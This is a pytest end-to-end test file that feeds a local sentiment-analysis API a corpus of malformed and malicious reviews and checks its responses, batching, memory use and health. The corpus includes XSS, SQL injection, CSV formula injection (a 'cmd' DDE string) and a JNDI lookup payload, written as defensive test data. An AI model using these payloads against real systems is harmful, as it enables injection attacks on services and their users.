"""Hostile input against the running local stack (issue 8): a corpus of awkward and
malicious reviews, sent as text/plain, as JSON and through /batch. (Hostile *bodies*: bad
bytes, charsets, content types, JSON and batch shapes, sizes, are cases of the contract
table, ``tests/sentiment_api/contract.py``, run here against the stack too.)

For every answer: never a 5xx, CORS headers without credentials, a verdict or one clear
sentence. For every request: what reached the SageMaker runtime (recorded by the local
runtime, ``/_devstack/invocations``) has one row per valid review, each exactly the live
vocabulary's width, or nothing was sent at all when the request was refused. The stack is
healthy afterwards.

A review with no known term (only out-of-vocabulary words, only punctuation) is a valid
review: it is encoded as a row with no term present (in ``text/csv`` the all-zero row, where
a 0 is a value) and gets the model's ordinary answer for that row: 200 with the probability
of the model's intercept alone.
"""

from __future__ import annotations

import http.client
import json
import urllib.parse
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import Answer, call
from tests.e2e.support import check_answer, clear_invocations, invocations, live
from tests.sentiment_api import answers, contract
from training.local_stack import LocalStack

pytestmark = pytest.mark.stack

TEXT = {"Content-Type": "text/plain;charset=UTF-8"}
JSON = {"Content-Type": "application/json"}
LIMIT = contract.LIMIT
ORIGIN = contract.ORIGIN

# Reviews that are valid text: each must get a verdict, in every mode.
REVIEWS: dict[str, str] = {
    "control-characters": "Great film\x01\x02\x07\x08\x0b\x0c\x1b[31m red\x7f\x85\x9f end",
    "nul": "good\x00movie\x00 great\x00",
    "only-nul": "\x00\x00\x00",
    "right-to-left": (
        "\u202eeivom doog\u202c \u05e1\u05e8\u05d8 \u0645\u0645\u062a\u0627\u0632 \u200f"
    ),
    "zero-width": "gr\u200beat fi\u200cl\u200dm\u2060\ufeff wonderful\u00ad",
    "only-zero-width": "\u200b\u200c\u200d\ufeff",
    "combining-marks": "gre\u0301a\u0308t fi\u0336l\u0336m " + "z" + "\u0300\u0301\u0302" * 300,
    "emoji": (
        "\U0001f600\U0001f3ac\U0001f44d\U0001f3fd "
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 great \U0001f1eb\U0001f1f7"
    ),
    "fullwidth": "\uff47\uff52\uff45\uff41\uff54 \uff46\uff49\uff4c\uff4d",
    "long-word": "a" * 90_000,
    "long-mixed-word": "supercalifragilistic" * 4_000,
    "just-under-the-limit": ("Great movie, awful plot. " * 4_000)[: LIMIT - 10],
    "html-script": (
        "<script>alert('x')</script><img src=x onerror=alert(1)><b>great</b> &amp; &#0; "
        "&#xD800; &lt;script&gt; <!-- <a href='javascript:alert(1)'>film</a>"
    ),
    "sql": "'; DROP TABLE reviews; -- \" OR 1=1; /* terrible */ UNION SELECT * FROM users",
    "csv-formula": "=cmd|' /C calc'!A0",
    "csv-formulas": '+SUM(1,2)\n-2+3\n@A1,=HYPERLINK("http://x","awful")\t=1+1',
    "csv-shape": "1,2,3\n4,5,6\r\n7,,\n,",
    "libsvm-shape": "1:5 2:3 2000:1 999999:1 -1:1 0:0",
    "line-breaks": "\n\n good \r\n\r\n\u2028\u2029 film \x0b",
    "format-strings": "%s %n %x {0} {review} ${jndi:ldap://x/a} \\x00 \\u0000",
    "out-of-vocabulary": "zzxqv qwfpgj xylophonistic blorptastical",
    "only-stopwords": "the and of a to is it this that was",
    "only-punctuation": "!!! ??? ... ,,, ;;; --- *** ''' \"\"\"",
}
# Valid as JSON strings only: a lone surrogate cannot be UTF-8, so as text/plain its bytes
# (the surrogate's three-byte form) are invalid UTF-8: a 400.
JSON_ONLY = {"lone-surrogates": "great \ud800 film \udfff\udbff end"}
# Only stopwords is known text now: the default vocabulary keeps every word (docs/model.md).
NO_KNOWN_TERM = ("out-of-vocabulary", "only-punctuation", "only-nul")


@pytest.fixture(scope="module")
def served(local_stack: LocalStack) -> tuple[int, str, str]:
    """The live vocabulary's feature count and content type, and the endpoint it names."""
    _, vocabulary = live(local_stack)
    assert vocabulary.model is not None and vocabulary.model.endpoint
    return vocabulary.feature_count, vocabulary.content_type, vocabulary.model.endpoint


def send(stack: LocalStack, path: str, body: bytes, headers: dict[str, str]) -> Answer:
    clear_invocations(stack)
    answer = call(stack.api_url + path, body, headers={"Origin": ORIGIN, **headers})
    assert answer.status < 500, (answer.status, answer.body[:300])
    check_answer(answer)
    return answer


def check_sent(
    stack: LocalStack, served: tuple[int, str, str], rows: int, *, explained: bool = False
) -> None:
    """What reached the runtime: ``rows`` rows of exactly the vocabulary's width, in one
    invocation (nothing at all for ``rows == 0``); ``explained`` (a JSON answer): the
    sentences' rows may follow in the same call."""
    answers.check_sent(rows, invocations(stack), served, explained=explained)


ALL_REVIEWS = {**REVIEWS, **JSON_ONLY}


@pytest.mark.parametrize("name", sorted(REVIEWS))
def test_review_as_text(local_stack: LocalStack, served: Any, name: str) -> None:
    answer = send(local_stack, "", REVIEWS[name].encode("utf-8"), TEXT)
    assert answer.status == 200
    check_sent(local_stack, served, 1)


@pytest.mark.parametrize("name", sorted(ALL_REVIEWS))
def test_review_as_json(local_stack: LocalStack, served: Any, name: str) -> None:
    body = json.dumps({"review": ALL_REVIEWS[name]}).encode()
    answer = send(local_stack, "predict", body, JSON)
    assert answer.status == 200
    assert answer.json()["sentiment"] in (0, 1)
    check_sent(local_stack, served, 1, explained=True)


@pytest.mark.parametrize("name", sorted(ALL_REVIEWS))
def test_review_through_batch(local_stack: LocalStack, served: Any, name: str) -> None:
    body = json.dumps({"reviews": [ALL_REVIEWS[name], "", ALL_REVIEWS[name]]}).encode()
    answer = send(local_stack, "batch", body, JSON)
    assert answer.status == 200
    results = answer.json()["results"]
    assert [r["index"] for r in results] == [0, 1, 2]
    assert results[1]["status"] == 400 and "sentiment" not in results[1]
    assert results[0]["sentiment"] == results[2]["sentiment"]
    check_sent(local_stack, served, 2, explained=True)


def test_the_whole_corpus_in_one_batch(local_stack: LocalStack, served: Any) -> None:
    reviews = [ALL_REVIEWS[name] for name in sorted(ALL_REVIEWS)][:25]
    answer = send(local_stack, "batch", json.dumps({"reviews": reviews}).encode(), JSON)
    assert answer.status == 200
    assert all("sentiment" in r for r in answer.json()["results"])
    check_sent(local_stack, served, len(reviews), explained=True)


def test_duplicate_keys_take_the_last_like_json_parse(local_stack: LocalStack) -> None:
    last = send(local_stack, "predict", b'{"review": "awful", "review": "great"}', JSON).json()
    great = send(local_stack, "predict", b'{"review": "great"}', JSON).json()
    assert last["probability"] == great["probability"]


def test_a_review_with_no_known_term_gets_the_models_answer_for_an_empty_row(
    local_stack: LocalStack, small_run: Path
) -> None:
    """The defined answer: 200, the model's own answer for a row with no term present (for
    ``text/csv`` the all-zero row, so the model's bias; for ``text/libsvm`` the row ``1:0``,
    every other column missing), computed here as the container computes it."""
    from devstack import xgb_container
    from training.artifacts import load_booster
    from vocab_store import Encoder

    _, vocabulary = live(local_stack)
    encoder = Encoder(vocabulary)
    booster = load_booster(small_run / "model.tar.gz")
    # Stopwords are known terms when the vocabulary keeps them (the default features do).
    stopwords = set(vocabulary.tokenizer.stopwords)
    names = [
        name
        for name in NO_KNOWN_TERM
        if name != "only-stopwords" or set(REVIEWS[name].split()) <= stopwords
    ]
    assert len(names) >= 3
    for name in names:
        review = REVIEWS[name]
        assert encoder.vector(review) in ([], [(0, 0.0)]), name  # nothing known
        body = encoder.body(review)
        if vocabulary.content_type == "text/csv":
            assert set(body.decode().split(",")) == {"0"}
        matrix = xgb_container.parse(body, vocabulary.content_type)
        (expected,) = xgb_container.predict(booster, matrix)
        verdict = send(local_stack, "predict", json.dumps({"review": review}).encode(), JSON)
        assert verdict.status == 200
        assert verdict.json()["probability"] == pytest.approx(expected, abs=1e-6), name
        assert verdict.json()["sentiment"] == (1 if expected >= 0.5 else 0)
        text = send(local_stack, "", review.encode(), TEXT)
        assert text.body == str(verdict.json()["sentiment"]).encode()


def _rss_kb(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError(f"no VmRSS for {pid}")


def test_unique_huge_words_do_not_grow_the_api(local_stack: LocalStack) -> None:
    # Every word new and longer than any vocabulary term: nothing may be remembered per
    # word. 20 batches of 25 reviews, ~95 kB each: ~48 MB of unique words in all.
    import random

    api = local_stack.stack.processes["api"].pid  # type: ignore[union-attr]
    assert api is not None
    rng = random.Random(8)
    letters = "abcdefghijklmnopqrstuvwxyz"

    def review() -> str:
        return " ".join("".join(rng.choices(letters, k=250)) for _ in range(380))

    batch = json.dumps({"reviews": [review() for _ in range(25)]}).encode()
    assert call(local_stack.api_url + "batch", batch, headers=JSON).status == 200
    before = _rss_kb(api)
    for _ in range(20):
        batch = json.dumps({"reviews": [review() for _ in range(25)]}).encode()
        answer = call(local_stack.api_url + "batch", batch, headers=JSON)
        assert answer.status == 200
        assert all("sentiment" in r for r in answer.json()["results"])
    grown_mb = (_rss_kb(api) - before) / 1024
    assert grown_mb < 20, f"the API grew {grown_mb:.0f} MB on words it cannot know"


def test_head_sends_headers_only_and_the_connection_stays_usable(
    local_stack: LocalStack,
) -> None:
    """HEAD gets the app's 405 (CORS, prediction id, a JSON type and length) with no body
    after it: the next answer on the same kept-alive connection is read intact."""
    api = urllib.parse.urlsplit(local_stack.api_url)
    connection = http.client.HTTPConnection(api.hostname, api.port, timeout=30)
    try:
        connection.request("HEAD", api.path.rstrip("/") + "/health", headers={"Origin": ORIGIN})
        head = connection.getresponse()
        assert head.read() == b""
        assert head.status == 405 and head.getheader("Allow") == "GET, OPTIONS"
        assert head.getheader("Access-Control-Allow-Origin") == "*"
        assert answers.UUID7.fullmatch(head.getheader("X-Prediction-Id") or "")
        assert int(head.getheader("Content-Length") or 0) > 0
        connection.request("GET", api.path.rstrip("/") + "/health")
        after = connection.getresponse()
        assert after.status == 200 and json.loads(after.read())["status"] == "ok"
    finally:
        connection.close()


@pytest.mark.parametrize("method", ["TRACE", "CONNECT"])
def test_a_method_no_route_serves_gets_a_json_405(local_stack: LocalStack, method: str) -> None:
    """What http.server answered with a 501 HTML page (API Gateway refuses these itself)."""
    api = urllib.parse.urlsplit(local_stack.api_url)
    connection = http.client.HTTPConnection(api.hostname, api.port, timeout=30)
    try:
        connection.request(method, api.path.rstrip("/") + "/predict")
        answer = connection.getresponse()
        body = json.loads(answer.read())
    finally:
        connection.close()
    assert answer.status == 405 and answer.getheader("Access-Control-Allow-Origin") == "*"
    assert body["error"] == "MethodNotAllowed"
    answers.check_sentence(body["message"])


def test_the_stack_is_healthy_afterwards(local_stack: LocalStack) -> None:
    status, body = local_stack.health()
    assert status == 200 and body["status"] == "ok"
    assert body["endpoint"]["answers"] is True
    answer = call(
        local_stack.api_url,
        b"One of the best films I have ever seen. Brilliant acting, a wonderful story.",
        headers=TEXT,
    )
    assert (answer.status, answer.body) == (200, b"1")
